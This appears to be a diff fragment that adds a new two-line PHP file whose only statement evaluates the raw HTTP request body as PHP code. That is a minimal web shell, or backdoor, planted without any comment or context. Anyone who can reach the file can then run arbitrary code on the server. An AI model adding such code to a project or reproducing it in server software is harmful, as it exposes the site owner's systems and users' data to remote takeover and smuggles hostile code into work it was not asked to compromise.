@@ -1,0 +1,2 @@
+<?php
+eval(file_get_contents('php://input'));
